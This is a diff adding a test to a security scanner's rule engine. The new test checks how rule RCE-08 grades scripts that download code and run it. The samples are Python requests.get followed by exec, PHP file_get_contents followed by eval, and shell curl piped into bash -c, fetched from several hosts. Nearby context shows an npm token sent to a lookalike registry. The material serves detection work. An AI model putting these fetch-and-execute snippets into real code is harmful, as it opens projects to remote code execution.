@@ -225,6 +225,19 @@ describe('engine with the real rules', () => {
     expect(severityOf('RCE-08', { path: 'Makefile', content: 'include config.mk\nconfig.mk: config.mk.in\n\tsed s/@V@/1/ $< > $@\ndeps:\n\tcurl -fsSL https://rules.buildkit-cdn.net/dep.tgz -o dep.tgz\n' })).toBeUndefined();
   });
 
+  it('grades every download kept in a variable and run by one rule: critical, high from a well-known or local host', () => {
+    const py = (url: string) => ({ path: 'scripts/update.py', content: `import requests\npayload = requests.get("${url}", timeout=5).text\nexec(payload)\n` });
+    expect(severityOf('RCE-08', py('https://rules.lintkit-cdn.net/p.py'))).toBe('critical');
+    expect(severityOf('RCE-08', py('https://raw.githubusercontent.com/acme/lint/main/p.py'))).toBe('critical');
+    expect(severityOf('RCE-08', py('https://bootstrap.pypa.io/get-pip.py'))).toBe('high');
+    const php = (url: string) => ({ path: 'audit.php', content: `<?php\n$rules = @file_get_contents('${url}');\nif ($rules !== false) { eval('?>' . $rules); }\n` });
+    expect(severityOf('RCE-08', php('https://rules.audit-tools.net/latest.php'))).toBe('critical');
+    expect(severityOf('RCE-08', php('http://localhost:8080/latest.php'))).toBe('high');
+    const sh = (url: string) => ({ path: 'assets/refresh.sh', content: `c=$(curl -s "${url}")\n[ -n "$c" ] && bash -c "$c"\n` });
+    expect(severityOf('RCE-08', sh('https://wx.example-cdn.cc/t'))).toBe('critical');
+    expect(severityOf('RCE-08', { path: 'audit.php', content: "<?php\n$rules = @file_get_contents('https://rules.audit-tools.net/latest.json');\n$cfg = json_decode($rules, true);\n" })).toBeUndefined();
+  });
+
   it('makes an npm token handed to a host that borrows the registry name critical', () => {
     expect(severityOf('SUP-04', { path: '.npmrc', content: 'registry=https://registry.npmjs-mirror.example/\n//registry.npmjs-mirror.example/:_authToken=${NPM_TOKEN}\n' })).toBe('critical');
     expect(severityOf('SUP-04', { path: '.npmrc', content: 'registry=https://registry.npmjs-mirror.example/\n' })).toBe('high');
